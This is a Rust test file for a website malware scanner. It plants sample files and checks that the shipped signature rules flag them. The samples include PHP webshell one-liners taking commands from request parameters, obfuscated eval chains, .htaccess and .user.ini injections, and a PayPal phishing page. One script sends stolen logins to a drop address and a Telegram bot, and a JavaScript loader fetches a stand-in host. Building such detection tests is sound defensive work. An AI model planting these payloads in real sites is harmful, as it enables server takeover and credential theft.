//! Corpus tests: malicious and clean samples written to a temp dir, scanned with the shipped
//! rules. Every malicious sample must match its expected rules; no clean sample may match.

use std::path::Path;

use jiff::Timestamp;

use super::*;
use crate::scan::testdir::TempDir;

struct Sample {
    rel: &'static str,
    data: Vec<u8>,
    /// Rule names that must all be among the matches (empty for clean samples).
    expect: &'static [&'static str],
}

fn s(rel: &'static str, text: &str, expect: &'static [&'static str]) -> Sample {
    Sample {
        rel,
        data: text.as_bytes().to_vec(),
        expect,
    }
}

/// Deterministic pseudo-random bytes.
fn noise(seed: u64, len: usize) -> Vec<u8> {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 32) as u8
        })
        .collect()
}

fn base64ish(len: usize) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    noise(7, len)
        .iter()
        .map(|b| A[(*b as usize) % A.len()] as char)
        .collect()
}

fn jpeg(seed: u64, len: usize) -> Vec<u8> {
    let mut v = vec![
        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0,
    ];
    v.extend(noise(seed, len));
    v.extend([0xFF, 0xD9]);
    v
}

fn png(seed: u64, len: usize) -> Vec<u8> {
    let mut v = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR".to_vec();
    v.extend(noise(seed, len));
    v.extend(b"\x00\x00\x00\x00IEND\xaeB`\x82");
    v
}

/// Clean, WordPress-like PHP of about `len` bytes.
fn clean_php_filler(len: usize) -> String {
    let mut out = String::from("<?php\n/**\n * Theme functions.\n */\n");
    let mut i = 0;
    while out.len() < len {
        out.push_str(&format!(
            "function theme_part_{i}( $args = array() ) {{\n\t$defaults = array( 'id' => {i}, 'class' => 'part-{i}' );\n\t$args = wp_parse_args( $args, $defaults );\n\t// Render the part with escaped attributes.\n\treturn sprintf( '<div id=\"%1$s\" class=\"%2$s\">%3$s</div>', esc_attr( $args['id'] ), esc_attr( $args['class'] ), esc_html__( 'Part', 'theme' ) );\n}}\n\n"
        ));
        i += 1;
    }
    out
}

fn malicious() -> Vec<Sample> {
    let blob = base64ish(600);
    let mut big = clean_php_filler(2 * 1024 * 1024 + 12345).into_bytes();
    big.extend_from_slice(b"\n?><?php @eval($_POST['z']); ?>\n");
    let mut polyglot = jpeg(3, 4000);
    polyglot.extend_from_slice(b"<?php eval($_POST['x']); ?>");
    polyglot.extend(noise(4, 500));
    let codes: Vec<String> = "var s=document.createElement('script');s.src='//x.example/j.js';"
        .bytes()
        .map(|b| b.to_string())
        .collect();
    vec![
        s("site/wp-content/plugins/hello/x.php", "<?php @eval($_POST['pass']); ?>\n", &["php_eval_request"]),
        s("site/a.php", "<?php\n$a = 'as'.'sert';\n@assert(base64_decode($_REQUEST['x']));\n", &["php_eval_request"]),
        s("site/b.php", "<?php assert(str_rot13(base64_decode('ZXZhbCgkX1BPU1RbMV0pOw==')));\n", &["php_eval_decode_chain"]),
        s("site/wp-includes/css.php", &format!("<?php eval(gzinflate(base64_decode('{blob}'))); ?>"), &["php_eval_decode_chain", "php_compressed_base64_blob"]),
        s("site/rot.php", "<?php\n$x = str_rot13('onfr64_qrpbqr');\n$y = $x('ZWNobyAxOw==');\necho $y;\n", &["php_rot13_function_name"]),
        s("site/pr.php", "<?php preg_replace('/.*/e', $_REQUEST['c'], '');\n", &["php_preg_replace_eval"]),
        s("site/cmd.php", "<?php if (isset($_GET['cmd'])) { echo '<pre>'; system($_GET['cmd']); echo '</pre>'; } ?>", &["php_exec_request"]),
        s("site/wso.php", "<?php\n$auth_pass = \"63a9f0ea7bb98050796b649e85481845\";\n$color = \"#df5\";\n$default_action = 'FilesMan';\n$default_use_ajax = true;\n$default_charset = 'Windows-1251';\n@define('WSO_VERSION', '2.5');\nfunction wsoHeader() { global $color; echo $color; }\n", &["webshell_wso_filesman"]),
        s("site/c.php", "<?php\n/* C99Shell v. 1.0 pre-release */\n$c99sh_surl = 'http://example.org/';\nfunction c99_buff_prepare() { return 1; }\n", &["webshell_c99"]),
        s("site/r.php", "<?php // r57shell.php - version 1.40\n$r57_sess = 1;\n", &["webshell_r57"]),
        s("site/k.php", "<?php\n// b374k shell 2.8\n$s_pass = 'x'; $s_func = 'cmd';\n", &["webshell_b374k"]),
        s("site/hex.php", r#"<?php $f = "\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65"; $g = $f("ZWNobyAxOw=="); ?>"#, &["php_hex_encoded_function"]),
        s("site/oct.php", r#"<?php $f = "\145\166\141\154"; ?>"#, &["php_octal_encoded_function"]),
        s("site/chr.php", "<?php $e = chr(101).chr(118).chr(97).chr(108).chr(40).chr(36).chr(95).chr(80); ?>", &["php_chr_concatenation"]),
        s("site/o0.php", "<?php $OOO0O0O00=__FILE__;$OO00O0000=0x1b58;$OOO000000=urldecode(\"%74%68%36%73\");", &["php_o0_variable_obfuscation"]),
        s("site/wp-content/uploads/2024/05/cache.php", "<?php echo md5('x'); ?>\n", &["php_file_in_uploads"]),
        s("home/u/public_html/uploads/avatar.phtml", "<?= 'hi' ?>\n", &["php_file_in_uploads"]),
        s("site/wp-content/uploads/.htaccess", "AddHandler application/x-httpd-php .jpg .png\n", &["htaccess_php_handler_static_ext"]),
        s("site/images/.htaccess", "<FilesMatch \"\\.(txt|jpg)$\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n", &["htaccess_sethandler_static_files"]),
        s("site/.htaccess", "# BEGIN WordPress\nphp_value auto_prepend_file \"/var/www/html/wp-content/uploads/2023/01/logo.jpg\"\n", &["php_auto_prepend_injection"]),
        s("site3/.htaccess", "RewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|bing|yahoo) [NC]\nRewriteCond %{REQUEST_URI} !^/wp-admin\nRewriteRule ^(.*)$ http://spam.example/go.php?u=$1 [R=302,L]\n", &["htaccess_search_referer_redirect"]),
        s("site2/.user.ini", "auto_prepend_file=/tmp/.sess_8f3a.php\n", &["php_auto_prepend_injection"]),
        s("site/paypal/index.html", "<html><head><title>PayPal: Log in to your account</title></head>\n<body><h2>Your account has been limited</h2>\n<p>We noticed unusual activity. Please verify your account to restore access.</p>\n<form method=\"post\" action=\"https://secure-verify-login.example.net/gate.php\">\n<input type=\"email\" name=\"login_email\"><input type=\"password\" name=\"login_password\">\n<button>Log In</button></form></body></html>\n", &["phishing_login_form_offsite"]),
        s("site/paypal/send.php", "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\n$message = \"Email: \".$_POST['login_email'].\"\\nPassword: \".$_POST['password'].\"\\nIP: \".$ip;\n$send = \"drop@example.org\";\nmail($send, \"PP Login\", $message);\nfile_get_contents(\"https://api.telegram.org/bot123:ABC/sendMessage?chat_id=1&text=\".urlencode($message));\nheader(\"Location: https://www.paypal.com/\");\n", &["phishing_credential_exfil"]),
        s("site/paypal/blocker.php", "<?php\n$bannedIP = array(\"^66.102.*.*\", \"^38.100.*.*\");\n$hostname = gethostbyaddr($_SERVER['REMOTE_ADDR']);\n$blocked_words = array(\"above\", \"google\", \"phishtank\", \"net4.in\");\nif (preg_match('/bot|crawl/i', $_SERVER['HTTP_USER_AGENT'])) { header('HTTP/1.0 404 Not Found'); exit; }\n", &["phishing_kit_antibot"]),
        s("site/call.php", "<?php $_REQUEST['a']($_REQUEST['b']);\n", &["php_request_callable"]),
        s("site/map.php", "<?php array_map($_GET['f'], array($_GET['x']));\n", &["php_callback_request"]),
        s("site/bt.php", "<?php echo `$_GET[c]`; ?>\n", &["php_backtick_request"]),
        s("site/put.php", "<?php file_put_contents($_GET['n'], base64_decode($_POST['d'])); echo 'ok';\n", &["php_file_write_request"]),
        s("site/up.php", "<?php if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); echo 'ok'; }\n", &["php_file_write_request"]),
        s("site/cf.php", "<?php $f = create_function('', $_POST['code']); $f();\n", &["php_eval_request"]),
        s("site/wp-includes/js/jquery/jquery-migrate.min.js", &format!("/*! jQuery Migrate */!function(e){{\"use strict\";e.migrateVersion=\"3.4.1\"}}(jQuery);\neval(String.fromCharCode({}));\n", codes.join(",")), &["js_eval_fromcharcode"]),
        Sample { rel: "site/wp-content/uploads/2024/01/photo.jpg", data: polyglot, expect: &["webshell_php_in_image"] },
        Sample { rel: "site/wp-content/themes/t/functions.php", data: big, expect: &["php_eval_request"] },
    ]
}

fn clean() -> Vec<Sample> {
    let mut big_js = String::from("/*! app bundle */\n");
    let mut i = 0;
    while big_js.len() < 2 * 1024 * 1024 + 500_000 {
        big_js.push_str(&format!(
            "function f{i}(a,b){{return a.map(function(x){{return x*{i}+b}}).filter(Boolean)}}\n"
        ));
        i += 1;
    }
    vec![
        s("site/wp-config.php", "<?php\n/** The name of the database for WordPress */\ndefine( 'DB_NAME', 'wordpress' );\ndefine( 'DB_USER', 'wp' );\ndefine( 'DB_PASSWORD', 'secret' );\ndefine( 'DB_HOST', 'localhost' );\n$table_prefix = 'wp_';\ndefine( 'WP_DEBUG', false );\nif ( ! defined( 'ABSPATH' ) ) {\n\tdefine( 'ABSPATH', __DIR__ . '/' );\n}\nrequire_once ABSPATH . 'wp-settings.php';\n", &[]),
        s("site/wp-content/plugins/cw/cw.php", "<?php\n/**\n * Plugin Name: Contact Widget\n */\nif ( ! defined( 'ABSPATH' ) ) { exit; }\nadd_action( 'admin_post_cw_save', 'cw_save' );\nfunction cw_save() {\n\tif ( ! isset( $_POST['cw_nonce'] ) || ! wp_verify_nonce( $_POST['cw_nonce'], 'cw_save' ) ) {\n\t\twp_die( 'Invalid request' );\n\t}\n\t$name = sanitize_text_field( wp_unslash( $_POST['name'] ?? '' ) );\n\tupdate_option( 'cw_name', $name );\n\t$file = get_attached_file( (int) $_POST['id'] );\n\t$cmd = 'convert ' . escapeshellarg( $file ) . ' out.png';\n\texec( $cmd, $out, $rc ); // the system image tool\n\twp_safe_redirect( admin_url( 'options-general.php?page=cw&updated=1' ) );\n\texit;\n}\n", &[]),
        s("site/wp-content/plugins/cw/includes/class-token.php", "<?php\nclass CW_Token {\n\tprivate $callback;\n\tpublic function verify( $token, $count ) {\n\t\tassert( $count >= 0 );\n\t\t$raw = base64_decode( $token, true );\n\t\t$data = json_decode( $raw, true );\n\t\t$ids = array_map( 'intval', (array) $data['ids'] );\n\t\tusort( $ids, array( $this, 'cmp' ) );\n\t\treturn call_user_func( $this->callback, $ids ) && hash_equals( hash_hmac( 'sha256', $raw, AUTH_KEY ), $data['sig'] );\n\t}\n\tprivate function cmp( $a, $b ) { return $a <=> $b; }\n}\n", &[]),
        s("site/.htaccess", "# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteCond %{REQUEST_FILENAME} !-d\nRewriteRule . /index.php [L]\n</IfModule>\n# END WordPress\n", &[]),
        s("site2/.htaccess", "# php -- BEGIN cPanel-generated handler, do not edit\n# Set the \u{201c}ea-php74\u{201d} package as the default \u{201c}PHP\u{201d} programming language.\n<IfModule mime_module>\n  AddHandler application/x-httpd-ea-php74 .php .php7 .phtml\n</IfModule>\n# php -- END cPanel-generated handler, do not edit\n<FilesMatch \"\\.(jpg|jpeg|png|gif|ico)$\">\n  Header set Cache-Control \"max-age=2592000, public\"\n</FilesMatch>\n", &[]),
        s("site/wp-content/uploads/.htaccess", "# Deny PHP in uploads\n<Files *.php>\ndeny from all\n</Files>\n", &[]),
        s("site4/.htaccess", "RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} (AhrefsBot|SemrushBot) [NC]\nRewriteRule .* - [F,L]\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n", &[]),
        s("site/wp-content/uploads/index.php", "<?php\n// Silence is golden.\n", &[]),
        s("site/.user.ini", "; Wordfence WAF\nauto_prepend_file = '/home/example/public_html/wordfence-waf.php'\n; END Wordfence WAF\nupload_max_filesize = 64M\n", &[]),
        s("site/login.html", "<!doctype html><html><head><title>Sign in</title></head><body>\n<h1>Sign in to your account</h1>\n<form method=\"post\" action=\"/wp-login.php\">\n<label>Username <input name=\"log\"></label>\n<label>Password <input type=\"password\" name=\"pwd\"></label>\n<button type=\"submit\">Log in</button> <a href=\"/wp-login.php?action=lostpassword\">Forgot password?</a>\n</form></body></html>\n", &[]),
        s("site/verify.html", "<html><body><h1>Acme Bank customer portal</h1>\n<p>Thanks for registering with Acme Bank. Please verify your account by entering the code we sent and choosing a password.</p>\n<form method=\"post\" action=\"/account/verify\"><input name=\"code\"><input type=\"password\" name=\"password\"><button>Verify</button></form>\n<p>Questions? <a href=\"https://www.acme-bank.example/help\">Help</a></p></body></html>\n", &[]),
        s("site/wp-includes/js/app.min.js", "!function(e,t){\"use strict\";var n=[],r=Object.getPrototypeOf,i=n.slice;function o(e){return String.fromCharCode(e.which||e.keyCode)}e.fn.extend({val:function(t){return void 0===t?this[0]&&this[0].value:this.each(function(){this.value=t})}}),e.parseJSON=JSON.parse}(window.jQuery,document);\n", &[]),
        s("site/wp-content/themes/t/style.css", "/*\nTheme Name: T\n*/\nbody{margin:0;font-family:system-ui,sans-serif}.btn{background:url(images/bg.png) no-repeat}\n", &[]),
        s("site/wp-content/plugins/cw/format.php", "<?php\nfunction cw_clean( $s ) {\n\t$s = preg_replace( '/\\s+/u', ' ', $s );\n\t$s = preg_replace( '#</?em>#i', '', $s );\n\t$s = preg_replace( \"/[^a-z0-9_\\-]/\", '', $s );\n\t$s = preg_replace( '/\\/edit\\//', '/', $s );\n\treturn preg_replace_callback( '/\\d+/', function ( $m ) { return $m[0] * 2; }, $s );\n}\n", &[]),
        s("site/wp-content/plugins/cw/csv.php", "<?php\n$crlf = chr(13) . chr(10);\n$bom = \"\\xEF\\xBB\\xBF\";\n$sep = \"\\x00\\x1f\";\nfunction cw_csv_line( $cells ) { global $crlf; return implode( ',', $cells ) . $crlf; }\n", &[]),
        s("site/vendor/composer/autoload_real.php", "<?php\n\n// autoload_real.php @generated by Composer\n\nclass ComposerAutoloaderInit8a3c\n{\n    private static $loader;\n\n    public static function loadClassLoader($class)\n    {\n        if ('Composer\\Autoload\\ClassLoader' === $class) {\n            require __DIR__ . '/ClassLoader.php';\n        }\n    }\n\n    public static function getLoader()\n    {\n        spl_autoload_register(array('ComposerAutoloaderInit8a3c', 'loadClassLoader'), true, true);\n        self::$loader = $loader = new \\Composer\\Autoload\\ClassLoader(\\dirname(__DIR__));\n        call_user_func(\\Composer\\Autoload\\ComposerStaticInit8a3c::getInitializer($loader));\n        $loader->register(true);\n        return $loader;\n    }\n}\n", &[]),
        s("site/wp-content/themes/t/search.php", "<?php get_header(); ?>\n<h1><?php echo esc_html( $_GET['s'] ?? '' ); ?></h1>\n<?php if ( have_posts() ) : while ( have_posts() ) : the_post(); ?>\n<article><?php the_excerpt(); ?></article>\n<?php endwhile; endif; ?>\n<p>The file system is healthy.</p>\n<?php get_footer();\n", &[]),
        s("site/contact.php", "<?php\nif ( isset( $_POST['message'] ) ) {\n\t$to = get_option( 'admin_email' );\n\t$body = sanitize_textarea_field( $_POST['message'] );\n\tmail( $to, 'Contact form', $body );\n}\n", &[]),
        s("site/wp-content/uploads/2024/05/blocker-notes.txt", "Notes about phishtank and bannedIP lists.\n", &[]),
        Sample { rel: "site/wp-content/uploads/2024/05/photo.jpg", data: jpeg(11, 60_000), expect: &[] },
        Sample { rel: "site/wp-content/uploads/2024/05/logo.png", data: png(12, 20_000), expect: &[] },
        Sample { rel: "site/wp-content/uploads/2024/05/anim.gif", data: [b"GIF89a".to_vec(), noise(13, 9000)].concat(), expect: &[] },
        s("site/wp-content/themes/t/big-functions.php", &clean_php_filler(2 * 1024 * 1024 + 300_000), &[]),
        s("site/wp-content/themes/t/bundle.js", &big_js, &[]),
    ]
}

#[test]
fn corpus_malicious_all_match_clean_none_match() {
    let set = SignatureSet::shipped().unwrap();
    let dir = TempDir::new("corpus");
    let bad = malicious();
    let good = clean();
    assert!(bad.len() >= 15 && good.len() >= 15);
    let mut failures = Vec::new();
    let mut categories = std::collections::BTreeSet::new();
    for smp in &bad {
        let p = dir.write(smp.rel, &smp.data);
        let got = set.scan_file(&p).unwrap();
        let names: Vec<&str> = got.iter().map(|m| m.name.as_str()).collect();
        for want in smp.expect {
            if !names.contains(want) {
                failures.push(format!("MISSED {} expected {want}, got {names:?}", smp.rel));
            }
        }
        assert_eq!(got, set.scan_bytes(&p, &smp.data), "{}", smp.rel);
        categories.extend(got.iter().map(|m| m.category.clone()));
    }
    for smp in &good {
        let p = dir.write(smp.rel, &smp.data);
        let got = set.scan_file(&p).unwrap();
        if !got.is_empty() {
            failures.push(format!("FALSE POSITIVE {}: {got:?}", smp.rel));
        }
        assert!(set.scan_bytes(&p, &smp.data).is_empty(), "{}", smp.rel);
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    for c in [
        "webshell",
        "obfuscated_php",
        "php_in_uploads",
        "htaccess_injection",
        "phishing",
    ] {
        assert!(categories.contains(c), "no sample matched category {c}");
    }
    let st = set.stats();
    assert!(st.files_windowed >= 3 * 2, "{st:?}"); // 3 big files, scanned twice each
    assert!(st.bytes_skipped > 0);
    assert!(st.regex_runs > 0);
}

#[test]
fn payload_appended_to_large_file_is_found_in_tail_window() {
    let set = SignatureSet::shipped().unwrap();
    let dir = TempDir::new("tail");
    let mut big = clean_php_filler(2 * 1024 * 1024).into_bytes();
    let at = big.len() as u64;
    big.extend_from_slice(b"<?php @eval($_POST['z']); ?>");
    let p = dir.write("w/functions.php", &big);
    let m = set.scan_file(&p).unwrap();
    assert_eq!(m.len(), 1, "{m:?}");
    assert_eq!(m[0].offset, at + 7); // at `eval`
    assert!(m[0].excerpt.contains("eval($_POST"), "{}", m[0].excerpt);
    let st = set.stats();
    assert_eq!(st.files_windowed, 1);
    assert_eq!(st.bytes_scanned, 512 * 1024);
    assert_eq!(st.bytes_scanned + st.bytes_skipped, big.len() as u64);
    let f = m[0].to_finding(&p, Timestamp::from_second(0).unwrap());
    assert_eq!(f.check, "webshell");
    assert_eq!(
        f.message,
        format!("Webshell signature php_eval_request in {}", p.display())
    );
}

#[test]
fn files_without_rules_are_not_read_and_fifos_are_refused() {
    let set = SignatureSet::shipped().unwrap();
    let dir = TempDir::new("fifo");
    let p = dir.write("a/readme.md", b"eval($_POST[1])");
    assert!(set.scan_file(&p).unwrap().is_empty());
    assert_eq!(set.stats().files_skipped_no_rules, 1);
    assert_eq!(set.stats().bytes_scanned, 0);
    let fifo = dir.path().join("pipe.php");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let e = set.scan_file(&fifo).unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::InvalidInput);
    let missing = set.scan_file(&dir.path().join("missing.php")).unwrap_err();
    assert_eq!(missing.kind(), io::ErrorKind::NotFound);
    assert_eq!(set.stats().files_refused, 2);
}

/// Issue 9: a scan must not read through a symlink a user planted, neither as the file nor
/// as a directory on the way (an `lstat` by the caller followed by a plain open would follow
/// a swap in between).
#[test]
fn scans_never_follow_user_symlinks() {
    use std::os::unix::fs::symlink;
    let set = SignatureSet::shipped().unwrap();
    let dir = TempDir::new("links");
    let secret = dir.write("outside/a/shell.php", b"<?php @eval($_POST['cmd']); ?>");
    assert!(
        !set.scan_file(&secret).unwrap().is_empty(),
        "the real file matches"
    );
    // The file itself a symlink.
    let flink = dir.path().join("www/link.php");
    std::fs::create_dir_all(flink.parent().unwrap()).unwrap();
    symlink(&secret, &flink).unwrap();
    let e = set.scan_file(&flink).unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::PermissionDenied);
    assert!(e.to_string().contains("link.php is a symlink"), "{e}");
    // A directory on the way a symlink owned by a user.
    if nix::unistd::Uid::effective().is_root() {
        let dlink = dir.path().join("www/site");
        symlink(dir.path().join("outside"), &dlink).unwrap();
        nix::unistd::fchownat(
            None,
            &dlink,
            Some(nix::unistd::Uid::from_raw(1234)),
            Some(nix::unistd::Gid::from_raw(1234)),
            nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW,
        )
        .unwrap();
        let e = set.scan_file(&dlink.join("a/shell.php")).unwrap_err();
        assert_eq!(e.kind(), io::ErrorKind::PermissionDenied, "{e}");
        assert!(e.to_string().contains("owned by uid 1234"), "{e}");
        // A character device in place of a file is refused without being opened.
        let dev = dir.path().join("www/dev.php");
        nix::sys::stat::mknod(
            &dev,
            nix::sys::stat::SFlag::S_IFCHR,
            nix::sys::stat::Mode::from_bits_truncate(0o644),
            nix::sys::stat::makedev(1, 3),
        )
        .unwrap();
        let e = set.scan_file(&dev).unwrap_err();
        assert_eq!(e.kind(), io::ErrorKind::InvalidInput);
        assert!(e.to_string().contains("character device"), "{e}");
    }
}

#[test]
fn extra_rule_dir_adds_good_files_and_reports_bad_ones() {
    let dir = TempDir::new("rules");
    dir.write(
        "10-extra.toml",
        br#"[[rule]]
id = "LOCAL-1"
name = "local_marker"
category = "webshell"
severity = "HIGH"
confidence = "low"
extensions = ["php"]
anchors = ["LOCALMARK"]
"#,
    );
    dir.write("20-bad.toml", b"[[rule]]\nid = \"LOCAL-2\"\nname = \"x\"\n");
    dir.write(
        "30-dup.toml",
        br#"[[rule]]
id = "SVC-WS-0001"
name = "dup"
category = "webshell"
severity = "HIGH"
confidence = "low"
extensions = ["php"]
anchors = ["abc"]
"#,
    );
    dir.write("notes.txt", b"ignored");
    let (set, errors) = SignatureSet::shipped_with_dir(dir.path()).unwrap();
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert_eq!(errors[0].rule_id.as_deref(), Some("LOCAL-2"));
    assert_eq!(errors[0].key.as_deref(), Some("category"));
    assert!(matches!(errors[1].kind, RuleErrorKind::DuplicateId { .. }));
    assert_eq!(set.stats().rule_files_refused, 2);
    let m = set.scan_bytes(Path::new("/x/a.php"), b"<?php // LOCALMARK");
    assert_eq!(m[0].rule_id, "LOCAL-1");
    let (set2, errs) = SignatureSet::shipped_with_dir(&dir.path().join("none")).unwrap();
    assert!(errs.is_empty());
    assert_eq!(
        set2.rules().len(),
        SignatureSet::shipped().unwrap().rules().len()
    );
}

#[test]
fn shipped_rules_are_valid_and_categorised() {
    let set = SignatureSet::shipped().unwrap();
    assert!(set.rules().len() >= 20);
    for r in set.rules() {
        assert!(r.source.starts_with("rules/signatures/"), "{}", r.source);
    }
}
